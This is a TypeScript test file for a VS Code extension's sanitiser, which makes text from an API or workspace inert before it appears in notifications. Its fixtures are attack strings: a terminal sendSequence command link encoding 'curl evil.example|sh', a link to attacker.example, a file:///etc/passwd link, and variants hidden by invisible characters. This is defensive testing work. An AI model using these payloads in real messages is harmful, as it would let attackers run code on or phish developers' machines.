// Issue 10, point 3: text from the API or the workspace reaches notifications with no link VS Code would render.
// The oracle is the pattern VS Code itself uses to find links in notification and language-status text
// (src/vs/base/common/linkedText.ts: `[label](https://... | command:... | file:...)`).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_MAX_LENGTH, inertLines, inertText } from '../../client/src/inertText';

const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const SEND_SEQUENCE = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';

function links(text: string): string[] {
  return [...text.matchAll(VSCODE_LINK)].map((m) => m[0]);
}

test('a command link from an API error message is no link any more, and still readable', () => {
  assert.equal(links(SEND_SEQUENCE).length, 1, 'the oracle finds the attack link');
  const shown = inertText(`Create connection failed: ${SEND_SEQUENCE}`);
  assert.deepEqual(links(shown), []);
  assert.match(shown, /^Create connection failed: \[Retry\] \(command:workbench\.action\.terminal\.sendSequence/);
});

test('every spelling of a link is broken: https, file, with a title, nested, split over lines, hidden by invisible characters', () => {
  const attacks = [
    '[x](https://attacker.example/login)',
    '[x](file:///etc/passwd)',
    '[x](command:workbench.action.terminal.sendSequence?%7B%7D "Open the docs")',
    "[x](command:a 'title')",
    '[[x]](command:a)',
    '[x]\n(command:a)',
    '[x]\r\n(command:a)',
    '[x]\u2028(command:a)',
    '[x]\u200b(command:a)',
    '[x]\u202e(command:a)',
    '[x](command:a)[y](command:b)',
    '[Retry](COMMAND:workbench.action.terminal.sendSequence)',
  ];
  for (const attack of attacks) {
    const shown = inertText(attack);
    assert.deepEqual(links(shown), [], JSON.stringify(attack));
    assert.deepEqual(links(inertLines(attack)), [], JSON.stringify(attack));
  }
});

test('newlines and controls collapse to one line; ordinary text and plain URLs are left as they are', () => {
  assert.equal(inertText('line one\nline two\r\n\tline three'), 'line one line two line three');
  assert.equal(inertText('a\u0000b\u001bc\u202ed'), 'abcd');
  const ordinary = 'Updated connection "Warehouse (prod) [eu]" from warehouse.polytomic.json. See https://app.polytomic.com/connections/1.';
  assert.equal(inertText(ordinary), ordinary);
  assert.equal(inertText(undefined), '');
  assert.equal(inertText(42), '42');
});

test('long text is cut with an ellipsis, never in the middle of a character', () => {
  const long = 'x'.repeat(5000);
  assert.equal(inertText(long).length, DEFAULT_MAX_LENGTH);
  assert.ok(inertText(long).endsWith('…'));
  assert.equal(inertText(long, 20), `${'x'.repeat(19)}…`);
  const emoji = `${'x'.repeat(18)}😀😀`;
  const cut = inertText(emoji, 20);
  assert.ok(!/[\uD800-\uDBFF]…$/.test(cut), cut);
  assert.ok(cut.length <= 20);
});

test('a modal detail keeps its lines, each made inert and capped, with a bounded number of lines', () => {
  const detail = `Used by:\n  sync ${SEND_SEQUENCE}\n  model ok\n\nForce Delete deletes them together with the connection.`;
  const shown = inertLines(detail);
  assert.equal(shown.split('\n').length, 5);
  assert.deepEqual(links(shown), []);
  assert.match(shown, /^Used by:\n {2}sync \[Retry\] \(command:/);
  const many = Array.from({ length: 100 }, (_, i) => `line ${i}`).join('\n');
  const capped = inertLines(many, 10).split('\n');
  assert.equal(capped.length, 10);
  assert.equal(capped[9], '… and 91 more lines');
  assert.equal(inertLines('y'.repeat(1000), 40, 50).length, 50);
});
